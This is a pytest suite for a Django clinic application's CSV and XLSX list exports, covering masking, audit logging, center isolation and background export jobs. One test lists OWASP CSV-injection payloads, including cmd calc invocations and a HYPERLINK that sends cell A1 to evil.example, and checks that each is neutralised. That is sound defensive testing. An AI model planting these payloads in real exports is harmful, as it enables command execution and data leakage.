"""Exporting a list: the list's own rows for the same filters, as CSV or XLSX, streamed, masked, audited."""

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from auditlog.models import LogEntry
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from clinic import services
from clinic.models import ExportJob, Status
from clinic.tasks import build_export, delete_old_exports
from organizations.models import Role
from tests.factories import ApplicationFactory, PersonFactory, StaffFactory, VisitFactory
from tests.fixtures.api_support import new_employer

pytestmark = pytest.mark.django_db


def _api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def _web(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _content(response) -> bytes:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def _csv_rows(response) -> list[list[str]]:
    text = _content(response).decode("utf-8-sig")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(_content(response)), read_only=True).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _dispute(center, by, subject="Wages"):
    return services.dispute_register(
        by=by, employer=new_employer(center=center), subject=subject, lawyer=by, applications=[]
    )


def test_the_api_export_holds_the_lists_rows_for_the_same_filters(manager, center, other_center):
    # given cases of two statuses, and another center's case
    registered = [ApplicationFactory(center=center) for _ in range(3)]
    started = ApplicationFactory(center=center, lawyer=StaffFactory(role=Role.LAWYER, center=center))
    services.application_change_status(application=started, by=started.lawyer, to_status=Status.IN_PROGRESS)
    ApplicationFactory(center=other_center)
    client = _api(manager)
    # when the list and its export are asked for with the same filter
    listed = client.get("/api/v1/applications/", {"status": "registered", "page_size": 100}).json()["results"]
    exported = _csv_rows(client.get("/api/v1/applications/export/", {"status": "registered", "type": "csv"}))
    # then the export holds the same cases in the same order, under English headers
    assert exported[0][:2] == ["Registration number", "Received on"]
    assert [row[0] for row in exported[1:]] == [case["registration_number"] for case in listed]
    assert {row[0] for row in exported[1:]} == {case.registration_number for case in registered}


def test_the_xlsx_export_holds_the_same_rows_as_the_csv(manager, center):
    for _ in range(3):
        PersonFactory(center=center)
    client = _api(manager)
    as_csv = _csv_rows(client.get("/api/v1/persons/export/"))
    as_xlsx = _xlsx_rows(client.get("/api/v1/persons/export/", {"type": "xlsx"}))
    assert len(as_xlsx) == 4
    assert [row[:3] for row in as_xlsx] == [row[:3] for row in as_csv]


def test_a_federation_analyst_gets_personal_data_masked(manager, analyst, center):
    person = PersonFactory(center=center, email="aigerim.s@mail.kz")
    VisitFactory(person=person, registered_by=manager)
    own = _csv_rows(_api(manager).get("/api/v1/persons/export/"))[1]
    masked = _csv_rows(_api(analyst).get("/api/v1/persons/export/"))[1]
    # (a phone starts with "+" but runs nothing: written without the formula guard's quote)
    assert own[1:4] == [person.iin, person.phone, "aigerim.s@mail.kz"]
    masked_iin = person.iin[:2] + "********" + person.iin[-2:]
    assert masked[1:4] == [masked_iin, "'+7********" + person.phone[-2:], "a***@***.kz"]
    visit_row = _csv_rows(_api(analyst).get("/api/v1/visits/export/"))[1]
    assert visit_row[1:4] == [masked[0], masked_iin, "'+7********" + person.phone[-2:]]


def test_a_name_that_looks_like_a_formula_stays_text(manager, center):
    PersonFactory(center=center, full_name='=HYPERLINK("http://x")')
    row = _csv_rows(_api(manager).get("/api/v1/persons/export/"))[1]
    assert row[0] == '\'=HYPERLINK("http://x")'
    cell = _xlsx_rows(_api(manager).get("/api/v1/persons/export/", {"type": "xlsx"}))[1][0]
    assert cell == '\'=HYPERLINK("http://x")'


# OWASP's CSV injection payloads: each must come out behind the quote, in CSV and in XLSX.
FORMULA_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-1+1",
    "+7 701 123 45 67+cmd|' /C calc'!A0",
    "-10;=1+1",
    "\t=1+1",
    "\r=1+1",
)
# Phones and plain negative numbers: nothing in them can run; written as they are.
HARMLESS = ("+77011234567", "+7 (701) 123-45-67", "+7 701 123 45 67", "-15", "-2,5", "-2.5")


def test_formula_payloads_are_quoted_and_phones_are_not(manager, center):
    for value in (*FORMULA_PAYLOADS, *HARMLESS):
        PersonFactory(center=center, full_name=value, phone="+77015550000")
    client = _api(manager)
    names = {row[0]: row[2] for row in _csv_rows(client.get("/api/v1/persons/export/"))[1:]}
    xlsx_names = {row[0] for row in _xlsx_rows(client.get("/api/v1/persons/export/", {"type": "xlsx"}))[1:]}

    for payload in FORMULA_PAYLOADS:
        assert f"'{payload}" in names, payload
        assert f"'{payload}" in xlsx_names, payload
    for value in HARMLESS:
        assert value in names, value
        assert value in xlsx_names, value
    assert set(names.values()) == {"+77015550000"}  # the phone column, without a quote


def test_an_export_is_in_the_audit_trail(manager, center):
    for _ in range(2):
        PersonFactory(center=center, is_union_member=True)
    _content(_api(manager).get("/api/v1/persons/export/", {"is_union_member": "true", "type": "xlsx"}))
    entry = LogEntry.objects.filter(action=LogEntry.Action.ACCESS, actor=manager).get()
    assert entry.additional_data == {
        "export": "persons",
        "filters": "is_union_member=true",
        "format": "xlsx",
        "rows": 2,
    }


def test_another_centers_rows_never_appear(lawyer, center, other_center):
    _dispute(center, lawyer, "Ours")
    _dispute(other_center, StaffFactory(role=Role.LAWYER, center=other_center), "Theirs")
    rows = _csv_rows(_api(lawyer).get("/api/v1/labor-disputes/export/"))
    assert [row[3] for row in rows[1:]] == ["Ours"]


def test_an_unknown_format_is_a_400_naming_the_field(manager):
    response = _api(manager).get("/api/v1/persons/export/", {"type": "pdf"})
    assert response.status_code == 400
    assert response.json() == {"type": ["Choose CSV or XLSX."]}


@pytest.mark.parametrize("path", ["/api/v1/applications/export/", "/api/v1/visits/export/", "/cases/export/"])
def test_the_queries_do_not_grow_with_the_rows(manager, center, path):
    client = _web(manager) if path.startswith("/cases") else _api(manager)

    def make():
        if "visits" in path:
            VisitFactory(person=PersonFactory(center=center), registered_by=manager)
        else:
            ApplicationFactory(center=center, employer=new_employer(center=center))

    def queries() -> int:
        with CaptureQueriesContext(connection) as context:
            _content(client.get(path))
        return len(context.captured_queries)

    make()
    one = queries()
    for _ in range(30):
        make()
    assert queries() == one


def test_the_case_page_exports_as_filtered_in_russian(manager, center, other_center):
    mine = ApplicationFactory(center=center)
    ApplicationFactory(center=other_center)
    client = _web(manager)
    client.cookies["django_language"] = "ru"
    page = client.get("/cases/", {"scope": "center"}, HTTP_ACCEPT_LANGUAGE="ru")
    assert "/cases/export/?scope=center&amp;type=xlsx" in page.content.decode()
    response = client.get("/cases/export/", {"scope": "center", "type": "csv"}, HTTP_ACCEPT_LANGUAGE="ru")
    text = _content(response).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert header[0] == "Регистрационный номер"
    assert [row[0] for row in rows] == [mine.registration_number]


def test_the_dispute_page_exports_xlsx(lawyer, center):
    _dispute(center, lawyer, "Overtime")
    response = _web(lawyer).get("/disputes/export/", {"type": "xlsx"})
    rows = _xlsx_rows(response)
    assert rows[1][3] == "Overtime"
    assert response["Content-Disposition"].startswith('attachment; filename="disputes-')


def test_a_large_export_is_built_in_the_background_for_its_owner_only(
    settings, media_root, manager, center, django_capture_on_commit_callbacks
):
    # given a list longer than an export streamed while the user waits
    settings.EXPORT_SYNC_MAX_ROWS = 2
    for _ in range(3):
        PersonFactory(center=center)
    # when it is exported through the API
    with django_capture_on_commit_callbacks(execute=True):
        response = _api(manager).get("/api/v1/persons/export/", {"type": "xlsx"})
    # then a job is started, built by the (eager) task, and its file downloads for its owner
    assert response.status_code == 202
    job = ExportJob.objects.get(pk=response.json()["id"])
    assert (job.status, job.row_count, job.filters) == (ExportJob.State.DONE, 3, "")
    assert response.json()["url"].endswith(f"/exports/{job.pk}/")
    owner = _web(manager)
    assert "3 rows." in owner.get(f"/exports/{job.pk}/").content.decode()
    download = owner.get(f"/exports/{job.pk}/download/")
    assert len(_xlsx_rows(download)) == 4
    # and nobody else sees it
    other = _web(StaffFactory(role=Role.MANAGER, center=center))
    assert other.get(f"/exports/{job.pk}/").status_code == 404
    assert other.get(f"/exports/{job.pk}/download/").status_code == 404


@pytest.mark.parametrize(
    ("language", "pending", "ready"),
    [
        ("ru", "Файл готовится", "Скачать"),
        ("kk", "Файл дайындалуда", "Жүктеп алу"),
        ("en", "The file is being prepared", "Download"),
    ],
)
def test_a_large_page_export_goes_to_the_background_and_its_page_follows_it(
    settings, media_root, lawyer, center, language, pending, ready, django_capture_on_commit_callbacks
):
    # given a case list longer than an export streamed while the user waits
    settings.EXPORT_SYNC_MAX_ROWS = 2
    mine = [ApplicationFactory(center=center, lawyer=lawyer) for _ in range(3)]
    ApplicationFactory(center=center)  # another lawyer's: not in "my cases"
    client = _web(lawyer)
    client.cookies["django_language"] = language
    # when the page's list is exported: a job is recorded, its task queued once the request commits
    with django_capture_on_commit_callbacks(execute=False) as queued:
        response = client.get("/cases/export/", {"scope": "mine", "type": "csv"})
    job = ExportJob.objects.get(user=lawyer)
    assert response.status_code == 302
    assert response["Location"] == f"/exports/{job.pk}/"
    assert (job.source, job.list_name, job.filters, job.status) == ("page", "cases", "scope=mine", "pending")
    assert len(queued) == 1
    # then its page says it is being prepared and polls its own state
    page = client.get(f"/exports/{job.pk}/").content.decode()
    assert pending in page
    assert f'hx-get="/exports/{job.pk}/"' in page
    # and once built by the task, the polled state offers the file: the page's list as filtered
    build_export(job.pk)
    state = client.get(f"/exports/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert ready in state
    assert "hx-get" not in state
    rows = [
        line.split(";" if language != "en" else ",")[0]
        for line in b"".join(client.get(f"/exports/{job.pk}/download/").streaming_content)
        .decode("utf-8-sig")
        .splitlines()[1:]
    ]
    assert sorted(rows) == sorted(case.registration_number for case in mine)


def test_a_small_page_export_is_still_streamed(settings, lawyer, center):
    settings.EXPORT_SYNC_MAX_ROWS = 2
    _dispute(center, lawyer, "Overtime")
    _dispute(center, lawyer, "Wages")
    response = _web(lawyer).get("/disputes/export/", {"type": "csv"})
    assert len(_csv_rows(response)) == 3
    assert not ExportJob.objects.exists()


def test_a_background_export_is_followed_through_the_api_by_its_owner_only(
    settings, media_root, manager, center, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_MAX_ROWS = 2
    for _ in range(3):
        PersonFactory(center=center)
    client = _api(manager)
    with django_capture_on_commit_callbacks(execute=False):
        started = client.get("/api/v1/visits/export/", {"type": "csv"})
    with django_capture_on_commit_callbacks(execute=False):
        started = client.get("/api/v1/persons/export/", {"type": "csv"})
    assert started.status_code == 202
    job_id = started.json()["id"]
    assert started.json()["url"] == f"http://testserver/api/v1/exports/{job_id}/"

    state = client.get(f"/api/v1/exports/{job_id}/").json()
    assert (state["status"], state["rows_done"], state["download_url"]) == ("pending", 0, None)
    assert client.get(f"/api/v1/exports/{job_id}/download/").status_code == 404

    build_export(job_id)
    state = client.get(f"/api/v1/exports/{job_id}/").json()
    assert (state["status"], state["rows_done"], state["row_count"]) == ("done", 3, 3)
    assert state["download_url"] == f"http://testserver/api/v1/exports/{job_id}/download/"
    download = client.get(state["download_url"])
    assert download.status_code == 200
    assert len(b"".join(download.streaming_content).decode("utf-8-sig").splitlines()) == 4

    other = _api(StaffFactory(role=Role.MANAGER, center=center))
    assert other.get(f"/api/v1/exports/{job_id}/").status_code == 404
    assert other.get(f"/api/v1/exports/{job_id}/download/").status_code == 404


def test_old_background_exports_are_deleted_with_their_files(settings, media_root, manager):
    job = ExportJob.objects.create(user=manager, list_name="persons", file_format="csv")
    job.file.save("persons.csv", ContentFile(b"x"))
    path = job.file.path
    ExportJob.objects.filter(pk=job.pk).update(
        created_at=timezone.now() - timedelta(days=settings.EXPORT_KEEP_DAYS + 1)
    )
    assert delete_old_exports.delay().get() == 1
    assert not ExportJob.objects.exists()
    assert not Path(path).exists()
    assert any(task["task"] == "clinic.tasks.delete_old_exports" for task in settings.PERIODIC_TASKS)


def test_a_background_export_that_cannot_be_built_is_marked_failed(manager):
    job = ExportJob.objects.create(
        user=manager, list_name="cases", filters="received_after=not-a-day", file_format="csv"
    )
    with pytest.raises(ValidationError):
        build_export.run(job.pk)
    job.refresh_from_db()
    assert (job.status, job.file.name) == (ExportJob.State.FAILED, "")
